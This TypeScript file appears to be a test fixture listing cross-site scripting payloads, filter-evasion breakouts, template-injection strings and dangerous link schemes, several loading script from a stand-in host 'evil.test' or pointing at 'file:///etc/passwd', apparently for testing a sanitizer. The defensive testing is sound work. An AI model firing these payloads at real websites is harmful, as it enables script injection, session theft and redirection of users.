/** What a payload runs when it gets the chance: the test looks for the mark and for requests to the host. */
const RUN = 'globalThis.executed=1';
const HOST = '//evil.test/x';

/** Ways into running script, each with `RUN` or `HOST` inside. */
const vectors = [
  `<script>${RUN}</script>`,
  `<script src=${HOST}></script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x></svg>`,
  `<body onload=${RUN}>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button autofocus onfocus=${RUN}>x</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<base href=${HOST}>`,
  `<link rel=stylesheet href=${HOST}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<style>@import "${HOST}";</style>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<div style="background:url(${HOST})">x</div>`,
];

/** Ways out of where a text may stand. */
const breakouts: ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}`,
  (vector) => `</title>${vector}`,
  (vector) => `</script>${vector}`,
  (vector) => `<!--${vector}-->`,
  (vector) => `--><!-- -->${vector}`,
  (vector) => `]]>${vector}<![CDATA[`,
  (vector) => `</textarea></noscript></style>${vector}`,
  (vector) => `\\u003c/script>${vector}`,
  (vector) => `&lt;x&gt;${vector}`,
  (vector) => vector.replaceAll('<', '\u00ad<').replaceAll('=', '\u2028='),
];

/** Not about elements: script strings, template expressions, attribute values, JSON. */
const others = [
  `";${RUN};//`,
  `';${RUN};//`,
  `\`;${RUN};//`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `" onmouseover=${RUN} autofocus onfocus=${RUN} x="`,
  `","__proto__":{"x":"<script>${RUN}</script>"},"x":"`,
  `self.__next_f.push([1,"${RUN}"])`,
  `$1${RUN}`,
  `$L1`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
];

export const payloads: readonly string[] = [
  ...vectors.flatMap((vector) => breakouts.map((breakOut) => breakOut(vector))),
  ...others,
];

/** Addresses that run script, or lead elsewhere, where a link may be written. */
export const linkPayloads: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\tscript:${RUN}`,
  ` javascript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `blob:https://evil.test/x`,
  `file:///etc/passwd`,
  `//evil.test`,
  `/\\evil.test`,
  `/\t/evil.test`,
  `\\\\evil.test`,
  `view-source:javascript:${RUN}`,
];
